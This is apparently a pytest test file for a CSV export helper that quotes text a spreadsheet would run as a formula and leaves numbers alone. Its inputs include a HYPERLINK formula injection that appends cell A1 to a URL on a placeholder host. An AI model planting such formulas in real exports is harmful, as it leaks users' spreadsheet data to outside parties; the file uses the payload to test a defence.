"""A CSV text cell a spreadsheet would run as a formula is quoted; numbers are left alone."""

import math

import pytest

from core.io.csv_cells import spreadsheet_cell


@pytest.mark.parametrize(
    "text",
    [
        "=1+2.dcm",
        '=HYPERLINK("http://example.invalid/?"&A1,"open")',
        "+1+2",
        "-2+3",
        "-",
        "@SUM(A1:A2)",
        "\t=1+2",
        "\r=1+2",
        "-1.5e",
        "-inf.dcm",
    ],
)
def test_text_that_starts_like_a_formula_gets_a_single_quote(text):
    assert spreadsheet_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value",
    [-1.5, -3, 0.0, math.inf, -math.inf, math.nan, None, True],
)
def test_numbers_and_other_values_are_left_as_they_are(value):
    assert spreadsheet_cell(value) is value


@pytest.mark.parametrize(
    "text",
    [
        "-1.5",
        "+2",
        "-2e-05",
        "-.5",
        "inf",
        "-inf",
        "nan",
        "NaN",
        "Müller^Jürgen",
        "a=b",
        "1 of 3",
        "",
    ],
)
def test_text_that_is_a_number_or_no_formula_is_unchanged(text):
    assert spreadsheet_cell(text) == text
